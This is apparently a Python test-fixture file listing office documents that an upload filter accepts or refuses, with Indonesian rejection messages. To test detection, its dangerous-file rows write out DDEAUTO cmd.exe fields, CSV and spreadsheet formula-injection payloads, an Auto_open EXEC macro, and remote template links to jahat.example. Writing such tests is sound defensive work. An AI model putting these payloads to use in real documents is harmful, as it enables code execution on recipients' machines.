"""Documents of Word, Excel, PowerPoint and LibreOffice, as they are and as they are misnamed."""

from functools import partial

from tests.documents import ole_files as ole
from tests.documents import programs as made
from tests.documents.rows import refused, taken
from tests.documents.strange_files import EXE, PDF

MACROS = "memuat makro"
NAMED = "seperti program. Bila berkas itu dokumen, mohon ganti namanya"
DDE = "tidak diterima karena memuat rumus atau bidang (DDE) yang menjalankan program"
LAUNCH = "tidak diterima karena memuat perintah yang menjalankan program"
LOCKED = "memakai kata sandi, sehingga penerimanya tidak dapat membukanya. Mohon dikirim tanpa kata sandi."
FOREIGN = "tidak diterima karena mengambil templat dari komputer lain"
LINKED = "tidak diterima karena mengambil objek dari komputer lain"


def docx(**parts: bytes) -> partial[bytes]:
    return partial(lambda: made.with_parts(made.word(), **parts))


def xlsx(**parts: bytes) -> partial[bytes]:
    return partial(lambda: made.with_parts(made.openpyxl_book(), **parts))


def template(target: str) -> partial[bytes]:
    return docx(word___rels__settings_dot_xml_dot_rels=made.relations("attachedTemplate", target))


def dde(service: str) -> bytes:
    return f'<externalLink><ddeLink ddeService="{service}" ddeTopic="/c calc"/></externalLink>'.encode()


DOCUMENTS = [
    taken("Laporan.docx", made.word, "docx"),
    taken("Rekap.xlsx", made.openpyxl_book, "xlsx"),
    taken("Rekap.xlsx", made.xlsxwriter_book, "xlsx"),
    taken("Grafik.xlsx", partial(made.xlsxwriter_book, chart=True), "xlsx"),
    taken("Rekap.xls", made.xlwt_book, "xls"),
    taken("Paparan.pptx", made.slides, "pptx"),
    taken("Paparan.ppsx", made.slides, "pptx"),
    taken("Laporan.odt", partial(made.open_document, "text"), "odt"),
    taken("Rekap.ods", partial(made.open_document, "spreadsheet"), "ods"),
    taken("Paparan.odp", partial(made.open_document, "presentation"), "odp"),
    taken("Laporan.doc", ole.word, "doc"),
    taken("Rekap.xls", partial(ole.sheets, ole.a_sheet("Rekap")), "xls"),
    taken("Rekap 95.xls", partial(ole.sheets, name="Book"), "xls"),
    taken("Paparan.ppt", ole.slides, "ppt"),
    taken("Paparan.pps", ole.slides, "ppt"),
    taken("Data gabungan.docx", docx(word__embeddings__Lembar_dot_xlsx=made.openpyxl_book()), "docx"),
    taken("Rumus.xlsx", partial(made.openpyxl_formula, "=SUM(A2:A9)"), "xlsx"),
    taken("Rumus.xlsx", partial(made.openpyxl_formula, '=IF(A2="Ya|Tidak",1,0)'), "xlsx"),
]

MISNAMED = [
    taken("Rekap.xls", made.openpyxl_book, "xlsx", "Rekap.xlsx"),
    taken("Rekap.XLS", made.xlsxwriter_book, "xlsx", "Rekap.xlsx"),
    taken("Rekap.xlsx", made.xlwt_book, "xls", "Rekap.xls"),
    taken("Rekap.ods", made.openpyxl_book, "xlsx", "Rekap.xlsx"),
    taken("Laporan.doc", made.word, "docx", "Laporan.docx"),
    taken("Laporan.docx", ole.word, "doc", "Laporan.doc"),
    taken("Laporan.odt", made.word, "docx", "Laporan.docx"),
    taken("Laporan.doc", partial(made.open_document, "text"), "odt", "Laporan.odt"),
    taken("Paparan.ppt", made.slides, "pptx", "Paparan.pptx"),
    taken("Paparan.pptx", ole.slides, "ppt", "Paparan.ppt"),
    taken("Laporan.doc", made.xlwt_book, "xls", "Laporan.xls"),
    taken("Laporan TW III", made.word, "docx", "Laporan TW III.docx"),
    refused("Laporan.docx", made.openpyxl_book, "sebenarnya lembar kerja Excel, bukan dokumen Word"),
    refused("Rekap.xlsx", made.word, "sebenarnya dokumen Word, bukan lembar kerja Excel"),
    refused("Laporan.docx", lambda: PDF, "sebenarnya PDF, bukan dokumen Word seperti pada namanya."),
    refused("Laporan.pdf", made.word, "sebenarnya dokumen Word, bukan PDF seperti pada namanya."),
    refused("Rekap.docx", partial(made.zipped, {"a.txt": b"a"}), "sebenarnya arsip .zip, bukan dokumen Word"),
    refused("Rekap.xlsx", partial(made.xlsxwriter_book, macros=ole.VBA), MACROS),
    refused("Rekap.xlsm", partial(made.xlsxwriter_book, macros=ole.VBA), MACROS),
    refused(
        "Rekap.xlsx",
        lambda: made.with_text(
            made.openpyxl_book(),
            "[Content_Types].xml",
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
        "sebenarnya lembar kerja Excel berformat makro (.xlsm)",
    ),
    refused(
        "Rekap.xlsb",
        lambda: made.with_text(
            made.openpyxl_book(),
            "[Content_Types].xml",
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.binary.macroEnabled.main",
        ),
        "adalah lembar kerja Excel biner (.xlsb)",
    ),
    refused(
        "Laporan.docx",
        lambda: made.word()[:900],
        "rusak atau tidak utuh, sehingga tidak terbuka sebagai dokumen Word",
    ),
    refused(
        "Rekap.xls", lambda: made.xlwt_book()[:700], "rusak atau tidak utuh, sehingga tidak terbuka sebagai lembar"
    ),
    refused("Laporan.docx", docx(word__document_dot_xml=b"<w:document"), "rusak atau tidak utuh"),
]

DANGEROUS = [
    refused("Laporan.docx", docx(word__vbaProject_dot_bin=ole.VBA), MACROS),
    refused("Laporan.doc", partial(ole.word, Macros__VBA___VBA_PROJECT=b"\xcc"), MACROS),
    refused("Rekap.xls", partial(ole.sheets, _VBA_PROJECT_CUR__VBA__dir=b"\1"), MACROS),
    refused("Paparan.ppt", partial(ole.slides, ole.VBA), MACROS),
    refused("Rekap.xls", partial(ole.sheets, ole.a_sheet("Makro1", kind=1)), MACROS),
    refused("Rekap.xls", partial(ole.sheets, ole.a_sheet("Makro1", kind=1), name="Book"), MACROS),
    refused("Rekap.xlsx", xlsx(xl__macrosheets__sheet1_dot_xml=b"<xm:macrosheet/>"), MACROS),
    refused("Rekap.xlsx", xlsx(xl__macrosheets__intlsheet1_dot_bin=b"\1"), MACROS),
    refused("Laporan.odt", partial(made.open_document, "text", Basic__Standard__Modul_dot_xml=b"<a/>"), MACROS),
    refused(
        "Rekap.ods",
        partial(made.open_document, "spreadsheet", b'<a xlink:href="vnd.sun.star.script:a.py$b?language=Python"/>'),
        MACROS,
    ),
    refused("Rekap.csv", lambda: b'ID;PWXL;N;E\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC("calc")\nE\n', MACROS),
    refused(
        "Laporan.docx",
        docx(word__embeddings__oleObject1_dot_bin=ole.an_object("calc.exe", b"isi")),
        NAMED,
    ),
    refused(
        "Laporan.docx",
        docx(word__embeddings__oleObject1_dot_bin=ole.an_object("Lampiran.pdf", EXE)),
        "tidak diterima karena isinya program",
    ),
    refused("Laporan.docx", docx(word__media__a_dot_png=EXE), "tidak diterima karena isinya program"),
    refused(
        "Laporan.doc",
        lambda: ole.container(
            {"WordDocument": b"\xec\xa5" + bytes(30), "ObjectPool/_1/\x01Ole10Native": ole.packaged("a.vbs", b"x")}
        ),
        NAMED,
    ),
    refused(
        "Rekap.xls",
        lambda: ole.container(
            {"Workbook": ole.record(0x809) + ole.record(0x0A), "MBD1/\x01Ole10Native": ole.packaged("a.js", b"x")}
        ),
        NAMED,
    ),
    refused("Paparan.ppt", lambda: ole.slides(ole.an_object("a.bat", b"x")), NAMED),
    taken("Laporan.docx", docx(word__embeddings__oleObject1_dot_bin=ole.an_object("Lampiran.pdf", PDF)), "docx"),
    refused("Laporan.docx", template("https://jahat.example/a.dotm"), FOREIGN),
    refused("Laporan.docx", template("file://jahat.example/bagi/a.dotm"), FOREIGN),
    refused("Laporan.docx", template("\\\\jahat.example\\bagi\\a.dotm"), FOREIGN),
    taken("Laporan.docx", template("file:///C:\\Users\\Ani\\Templates\\Surat.dotm"), "docx"),
    taken("Laporan.docx", template("Normal.dotm"), "docx"),
    refused(
        "Laporan.docx",
        docx(word___rels__document_dot_xml_dot_rels=made.relations("oleObject", "mhtml:https://jahat.example/a!b")),
        LINKED,
    ),
    taken(
        "Laporan.docx", docx(word___rels__a_dot_xml_dot_rels=made.relations("hyperlink", "https://a.example")), "docx"
    ),
    refused(
        "Laporan.docx", docx(word__document_dot_xml=made.field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), DDE
    ),
    refused("Laporan.docx", docx(word__document_dot_xml=made.field(" D", "DE", "AUTO c:\\\\cmd.exe x")), DDE),
    refused("Laporan.docx", docx(word__header1_dot_xml=made.field("DDE cmd x")), DDE),
    refused(
        "Laporan.docx", docx(word__document_dot_xml=made.WORD_XML % b'<w:fldSimple w:instr="DDEAUTO cmd x"/>'), DDE
    ),
    taken("Laporan.docx", docx(word__document_dot_xml=made.field('DDE Excel "C:\\\\Rekap.xls" R1C1')), "docx"),
    taken("Laporan.docx", docx(word__document_dot_xml=made.field("PAGE")), "docx"),
    refused("Laporan.doc", partial(ole.word, b'\x13 DDEAUTO c:\\\\cmd.exe "/k calc" \x14\x15'), DDE),
    refused(
        "Laporan.doc", partial(ole.word, '\x13 DDEAUTO c:\\\\cmd.exe "/k calc" \x14\x15'.encode("utf-16-le")), DDE
    ),
    refused("Rekap.xlsx", xlsx(xl__externalLinks__externalLink1_dot_xml=dde("cmd")), DDE),
    taken("Rekap.xlsx", xlsx(xl__externalLinks__externalLink1_dot_xml=dde("Excel")), "xlsx"),
    refused("Rekap.xlsx", partial(made.openpyxl_formula, "=cmd|'/C calc'!A0"), DDE),
    taken("Rekap.xlsx", partial(made.openpyxl_formula, '=A1&"|"&B1&"|\'"'), "xlsx"),
    refused("Rekap.xls", partial(ole.sheets, ole.a_link("cmd\x03/c calc")), DDE),
    taken("Rekap.xls", partial(ole.sheets, ole.a_link("\x01Data TW II.xls")), "xls"),
    taken("Rekap.xls", partial(made.xlwt_book, sheets=14), "xls"),
    refused("Rekap 95.xls", partial(ole.sheets, ole.record(0x17, b"\x0bcmd\x03/c calc"), name="Book"), DDE),
    refused("Paparan.pptx", partial(made.slides, ppt__slides__a_dot_xml=b'<a action="ppaction://program"/>'), LAUNCH),
    refused(
        "Paparan.pptx", partial(made.slides, ppt__slides__a_dot_xml=b'<a action="ppaction://macro?name=A"/>'), MACROS
    ),
    taken(
        "Paparan.pptx", partial(made.slides, ppt__slides__a_dot_xml=b'<a action="ppaction://hlinksldjump"/>'), "pptx"
    ),
    refused("Rekap.ods", partial(made.open_document, "spreadsheet", b'<a office:dde-application="cmd"/>'), DDE),
    taken("Rekap.ods", partial(made.open_document, "spreadsheet", b'<a office:dde-application="soffice"/>'), "ods"),
    refused("Rekap.csv", lambda: b"Nama;Nilai\nAni;=cmd|'/C calc'!A0\n", DDE),
    refused("Rekap.csv", lambda: "Nama;Nilai\r\nAni;=MSEXCEL|'\\..\\cmd.exe /c calc'!''".encode("utf-16"), DDE),
    taken("Rekap.csv", lambda: b"Nama;Nilai\nAni;=SUM(A1:A2)\n- Ya|Tidak;-5\n", "csv"),
]

LOCKED_ROWS = [
    refused("Rekap.xlsx", lambda: ole.LOCKED, LOCKED),
    refused("Laporan.docx", lambda: ole.LOCKED, LOCKED),
    refused("Laporan.doc", partial(ole.word, encrypted=True), LOCKED),
    refused("Rekap.xls", partial(ole.sheets, ole.record(0x2F, bytes(6))), LOCKED),
    refused(
        "Paparan.ppt",
        lambda: ole.container(
            {"PowerPoint Document": bytes(8), "Current User": bytes(12) + (0xF3D1C4DF).to_bytes(4, "little")}
        ),
        LOCKED,
    ),
    refused(
        "Laporan.odt",
        partial(made.open_document, "text", **{"META-INF/manifest.xml": b"<manifest:encryption-data/>"}),
        LOCKED,
    ),
]

ROWS = [*DOCUMENTS, *MISNAMED, *DANGEROUS, *LOCKED_ROWS]
